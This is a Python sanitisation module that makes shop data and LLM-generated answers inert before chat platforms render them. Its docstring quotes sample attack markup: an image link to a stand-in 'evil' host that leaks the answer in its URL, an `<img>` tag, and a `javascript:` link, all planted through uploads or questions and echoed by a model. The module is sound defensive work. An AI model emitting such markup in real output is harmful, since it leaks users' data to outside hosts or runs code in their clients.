"""Text from the data or from a model, made inert for the surface that renders it.

Answer text, recommendations, clarification options, table names and cells come from the shop's
data and, with an LLM, from the model. Either can carry markup someone planted in an upload or a
question: `![x](http://evil/?q=<answer>)` is an image the reader's client fetches by itself (leaking
whatever the URL carries), `<img src=...>` the same in HTML, `[点我](javascript:...)` a link that runs
code, and a bare `http://evil/...` becomes a link in most renderers. Every surface passes such text
through one function here before laying it out; the links and images the server builds itself
(published table images, chart pages) are added by the surface afterwards, so they keep working.

- `markdown(text)`: CommonMark/GFM renderers (OpenAI-style clients, MCP clients, DingTalk, Feishu
  cards). The text's own emphasis, lists and tables still render; HTML, images, links, link
  definitions and autolinks do not.
- `slack(text)`: Slack mrkdwn (`&`, `<`, `>` escaped as Slack requires; autolinks broken).
- `plain(text)`: plain-text messages that still turn some markup into links (WeCom texts take
  `<a href>`): angle brackets become their full-width forms, autolinks are broken.
- `escape_all(text)`: every Markdown character escaped too (the web chat shows values exactly as
  they are, without even emphasis).
- `code(text)`: an inline code span that text cannot close early.
- `link_label(text)`: the visible label of a link the server builds.

Links are broken with a zero-width space (U+200B) rather than a backslash: chat platforms' Markdown
dialects differ on escapes, but none of them joins `]` + U+200B + `(` into a link, or reads
`http:/` + U+200B + `/` as a URL, and the reader sees the same characters.
"""

from __future__ import annotations

import html
import re
from typing import Any

ZWSP = "\u200b"

# `](` inline link or image, `][` full reference, `]:` a link definition, `![` an image: a
# zero-width space between the two characters leaves the text readable and the construct dead.
_LINK_JOINTS = re.compile(r"(?<=\])(?=[(\[:])|(?<=!)(?=\[)")
# Scheme-relative and absolute URLs (`//host`, `http://host`) and GFM's `www.` autolinks.
_SLASHES = re.compile(r"/(?=/)")
_WWW = re.compile(r"(?i)\b(www)\.")
# Schemes that run code or embed content when a renderer does take them as a link target.
_SCHEMES = re.compile(r"(?i)\b(javascript|vbscript|data|file)\s*:")
_INLINE = re.compile(r"([\\`*_\[\]|~$])")
_LINE_START = re.compile(r"^(\s*)([#>+\-=]|\d+[.)])", re.MULTILINE)


def _no_autolinks(text: str) -> str:
    text = _SLASHES.sub("/" + ZWSP, text)
    text = _WWW.sub(r"\1" + ZWSP + ".", text)
    return _SCHEMES.sub(lambda m: m.group(1) + ZWSP + ":", text)


def markdown(text: Any) -> str:
    """For a Markdown surface: HTML (tags, comments, `<url>` autolinks) shown as text, and no image,
    link, link definition or bare-URL autolink; other Markdown (bold, lists, tables) still renders."""
    value = "" if text is None else str(text)
    value = value.replace("<", "&lt;")
    value = _LINK_JOINTS.sub(ZWSP, value)
    return _no_autolinks(value)


def slack(text: Any) -> str:
    """For Slack mrkdwn: `&`, `<`, `>` escaped (so no `<url|label>` links, `<!here>` or `<@user>`
    pings) and bare URLs broken; *bold* and _italic_ still render."""
    value = "" if text is None else str(text)
    value = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return _no_autolinks(value)


def plain(text: Any) -> str:
    """For plain-text messages: no tags (full-width angle brackets read the same) and no autolinks."""
    value = "" if text is None else str(text)
    return _no_autolinks(value.replace("<", "＜").replace(">", "＞"))


def escape_all(text: Any) -> str:
    """Data values as inert text inside Markdown: no HTML, links, autolinks, emphasis, code or block
    markers; the reader sees the value exactly as it is."""
    value = html.escape("" if text is None else str(text), quote=False)
    value = _INLINE.sub(r"\\\1", value)
    value = _LINE_START.sub(lambda m: m.group(1) + "\\" + m.group(2), value)
    return _no_autolinks(value)


def code(text: Any) -> str:
    """An inline code span: its content is never rendered, and a backtick in it cannot end it early."""
    value = " ".join(("" if text is None else str(text)).replace("`", "'").split())
    return f"`{value}`"


def link_label(text: Any) -> str:
    """The label of a link we build (`[label](our URL)`): brackets that would end it early are
    replaced, and the rest is inert like any other text."""
    value = " ".join(("" if text is None else str(text)).split())
    value = value.replace("[", "(").replace("]", ")")
    return markdown(value)
